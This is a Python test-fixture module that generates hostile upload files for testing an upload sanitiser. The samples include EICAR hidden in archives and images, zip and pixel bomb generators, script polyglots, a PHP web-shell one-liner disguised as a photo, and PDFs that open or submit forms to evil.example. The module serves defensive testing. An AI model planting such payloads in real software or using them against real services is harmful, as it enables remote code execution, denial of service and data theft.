"""Files that strangers send to do harm, made on the spot: name, content, and what hides in it."""

import io
import struct
import zlib
from dataclasses import dataclass
from functools import cache
from typing import Final

from PIL import Image, PngImagePlugin

from tests.foundation.files import samples
from tests.foundation.files.clamd import EICAR
from tests.foundation.files.samples import PAGE, PAGES, picture, written_pdf

SCRIPT: Final = b"<script>alert(document.domain)</script>"
PHP: Final = b"<?php system($_GET['c']); ?>"


@dataclass(frozen=True)
class Hostile:
    """A file as it is sent; `hidden` must never come back. `said`: why it is refused, empty if taken."""

    name: str
    content: bytes
    hidden: bytes
    said: str = ""
    media_type: str = "image/jpeg"


def zipped(content: bytes, name: bytes = b"eicar.com", packed: bytes = b"", size: int = 0) -> bytes:
    """A ZIP archive with one file; `packed` and `size` state another stream than that of the content."""
    stream = packed or _deflated(content)
    size = min(size or len(content), 0xFFFFFFFF)
    common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, zlib.crc32(content), len(stream), size, len(name), 0)
    local = b"PK\x03\x04" + common + name + stream
    entry = b"PK\x01\x02" + struct.pack("<H", 20) + common + bytes(14) + name
    return local + entry + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(entry), len(local), 0)


def _deflated(content: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


@cache
def zip_bomb(size: int = 10 * 2**30) -> bytes:
    """An archive in an archive that unpacks to so many bytes, made without ever holding them."""
    piece = 2**24
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(piece)) + packer.flush(zlib.Z_FULL_FLUSH)  # may be repeated at will
    again = packer.compress(bytes(piece)) + packer.flush(zlib.Z_FULL_FLUSH)
    inner = zipped(b"", b"zeros", block + again * (size // piece - 1) + b"\x03\x00", size)
    return zipped(inner, b"inner.zip")


def jpeg_bomb(edge: int = 65500) -> bytes:
    """A JPEG of a few bytes that claims to be edge x edge pixels."""
    small = picture("JPEG")
    frame = small.index(b"\xff\xc0") + 5
    return small[:frame] + struct.pack(">HH", edge, edge) + small[frame + 4 :]


def text_bomb() -> bytes:
    """A PNG whose comment unpacks to 20 MB."""
    small, packed = picture("PNG"), zlib.compress(bytes(20 * 2**20), 9)
    chunk = b"zTXtComment\x00\x00" + packed
    return small[:33] + struct.pack(">I", len(packed) + 9) + chunk + _checksum(chunk) + small[33:]


def _checksum(chunk: bytes) -> bytes:
    return zlib.crc32(chunk).to_bytes(4, "big")


def jpeg_with_comment(text: bytes) -> bytes:
    """A JPEG with a comment, which some programs read as code."""
    whole = picture("JPEG")
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + whole[2:]


def png_with_text(text: str) -> bytes:
    """A PNG with a text chunk."""
    info, written = PngImagePlugin.PngInfo(), io.BytesIO()
    info.add_text("Comment", text)
    Image.new("RGB", (40, 30), "navy").save(written, "PNG", pnginfo=info)
    return written.getvalue()


def pdf_with_action(action: bytes) -> bytes:
    """A PDF that does something when it is opened."""
    catalogue = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %s >> >>" % action
    return written_pdf(catalogue, PAGES, PAGE)


def pdf_with_comment(text: bytes) -> bytes:
    """A PDF with something in a comment, which a browser would read as a page if it was served as one."""
    return samples.pdf().replace(b"\n", b"\n%" + text + b"\n", 1) + b"%" + text + b"\n"


def pdf_with_link_script() -> bytes:
    """A PDF in which a link runs a script, its name spelled with escapes."""
    link = (
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /J#61vaScript /JS (app.alert\\(1\\)) >> >>"
    )
    page = PAGE[:-2] + b"/Annots [4 0 R] >>"
    return written_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, page, link)


KIND: Final = "Diese Art von Datei können wir nicht lesen."
SECOND: Final = "In dieser Datei steckt noch eine zweite"
PROGRAM: Final = "enthält ein Programm"
MUCH: Final = "zu umfangreich"
BROKEN: Final = "lässt sich nicht öffnen"
OLE: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + b"AutoOpen" + SCRIPT

HOSTILE: Final = {
    "EICAR": Hostile("eicar.com", EICAR, EICAR, KIND),
    "EICAR called a photo": Hostile("ausweis.jpg", EICAR, EICAR, KIND),
    "EICAR in a ZIP": Hostile("eicar.zip", zipped(EICAR), EICAR, KIND, "application/zip"),
    "EICAR in a ZIP behind a photo": Hostile("foto.jpg", picture() + zipped(EICAR), EICAR, SECOND),
    "EICAR behind a photo": Hostile("foto.jpg", picture() + EICAR, EICAR),
    "EICAR in the comment of a photo": Hostile("foto.jpg", jpeg_with_comment(EICAR), EICAR),
    "EICAR attached to a PDF": Hostile("brief.pdf", samples.pdf_with_attachment(EICAR), EICAR, PROGRAM),
    "EICAR in the comment of a PDF": Hostile("brief.pdf", pdf_with_comment(EICAR), EICAR),
    "a PDF that is JavaScript": Hostile(
        "a.pdf", b"/*%PDF-1.7*/alert(1)//" + samples.pdf(), b"alert(1)", KIND
    ),
    "a GIF that is JavaScript": Hostile(
        "a.gif", b"GIF89a/*" + bytes(9) + b"*/=1;alert(1)", b"alert(1)", KIND
    ),
    "a JPEG that is JavaScript": Hostile("a.jpg", jpeg_with_comment(b"*/=alert(1);/*"), b"alert(1)"),
    "a PDF that is a ZIP and HTML": Hostile(
        "a.pdf", pdf_with_comment(SCRIPT) + zipped(SCRIPT, b"a.html"), SCRIPT, SECOND
    ),
    "a PDF that is HTML": Hostile("a.html", pdf_with_comment(SCRIPT), SCRIPT, "", "text/html"),
    "a PNG with HTML": Hostile("a.html", png_with_text(SCRIPT.decode()), SCRIPT, "", "text/html"),
    "an SVG with a script": Hostile("bild.svg", samples.SVG, b"alert(1)", KIND, "image/svg+xml"),
    "an SVG called a photo": Hostile("bild.png", samples.SVG, b"alert(1)", KIND, "image/png"),
    "a ZIP of 10 GB": Hostile("bombe.zip", zip_bomb(), b"zeros", KIND, "application/zip"),
    "a ZIP of 10 GB called a photo": Hostile("bombe.jpg", zip_bomb(), b"zeros", KIND),
    "a ZIP of 10 GB behind a photo": Hostile("bombe.jpg", picture() + zip_bomb(), b"zeros", SECOND),
    "a program called .pdf.exe": Hostile("rechnung.pdf.exe", samples.EXECUTABLE, b"MZ\x90", KIND),
    "a PDF called .pdf.exe": Hostile("rechnung.pdf.exe", samples.pdf(), b".exe"),
    "a photo called .jpg.php": Hostile("foto.jpg.php", jpeg_with_comment(PHP), PHP),
    "a photo called .exe by turned signs": Hostile("foto\u202egpj.exe", picture(), b".exe"),
    "a PNG of 400 million pixels": Hostile("bild.png", samples.pixel_bomb(), b"\0\0\x4e\x20", MUCH),
    "a JPEG of 4 billion pixels": Hostile("bild.jpg", jpeg_bomb(), b"\xff\xdc\xff\xdc", MUCH),
    "a PNG whose comment is a bomb": Hostile("bild.png", text_bomb(), b"zTXt", BROKEN),
    "a PDF with a script": Hostile("a.pdf", samples.pdf_with_script(), b"app.alert", PROGRAM),
    "a PDF with a script in a link": Hostile("a.pdf", pdf_with_link_script(), b"app.alert", PROGRAM),
    "a PDF that starts a program": Hostile("a.pdf", samples.pdf_that_starts_a_program(), b"calc", PROGRAM),
    "a PDF that opens an address": Hostile(
        "a.pdf", pdf_with_action(b"/S /URI /URI (https://evil.example/)"), b"evil.example"
    ),
    "a PDF that sends its form": Hostile(
        "a.pdf", pdf_with_action(b"/S /SubmitForm /F (https://evil.example/)"), b"evil.example"
    ),
    "a PDF with a program attached": Hostile(
        "a.pdf", samples.pdf_with_attachment(samples.EXECUTABLE), b"MZ\x90", PROGRAM
    ),
    "a PDF with data attached": Hostile(
        "a.pdf", samples.pdf_with_attachment(b"<data>hidden attachment</data>"), b"hidden attachment"
    ),
    "a Word document with macros": Hostile(
        "brief.docm", zipped(SCRIPT, b"word/vbaProject.bin"), SCRIPT, KIND, "application/msword"
    ),
    "an old Word document with macros": Hostile("brief.doc", OLE, SCRIPT, KIND, "application/msword"),
    "a photo that says where it was taken": Hostile("foto.jpg", samples.photo_with_place(), b"CameraOfAnna"),
}
"""What is refused says so without a scanner; the rest is taken, and only our pictures of it are served."""
TAKEN: Final = {name: each for name, each in HOSTILE.items() if not each.said}
